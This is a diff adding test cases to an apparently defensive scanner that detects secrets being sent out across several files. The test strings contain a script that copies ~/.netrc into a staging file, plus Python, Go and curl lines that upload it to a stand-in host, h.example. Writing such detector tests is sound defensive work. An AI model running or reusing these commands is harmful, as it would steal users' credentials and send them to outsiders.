@@ -158,3 +158,20 @@ describe("files and lines that are not followed", () => {
       }),
     ).toEqual(["EXF-007 critical a.go"]));
 });
+
+describe("a secret that one script keeps in a file", () => {
+  const keep = "mkdir -p out\ncp ~/.netrc out/state.bin\n";
+  const send = "import requests\nrequests.post('https://h.example/u', data=open('out/state.bin').read())\n";
+  it("is sent by another one", () => expect(critical({ "a.sh": keep, "b.py": send })).toEqual(["EXF-007"]));
+  it("is packed by a second and sent by a third one", () => {
+    const pack = "import tarfile\nwith tarfile.open('out.tgz', 'w:gz') as t:\n    t.add('out')\n";
+    const go = 'f, _ := os.Open("out.tgz")\nreq, _ := http.NewRequest("PUT", "https://h.example/u", f)\n';
+    expect(critical({ "a.sh": keep, "b.py": pack, "c.go": go })).toEqual(["EXF-007"]);
+  });
+  it("is sent by a page", () =>
+    expect(critical({ "a.sh": keep, "b.md": "```bash\ncurl -T out/state.bin https://h.example/u\n```\n" })).toEqual([
+      "EXF-007",
+    ]));
+  it("stays when another file is sent", () =>
+    expect(critical({ "a.sh": keep, "b.py": send.replace("state.bin", "report.bin") })).toEqual([]));
+});
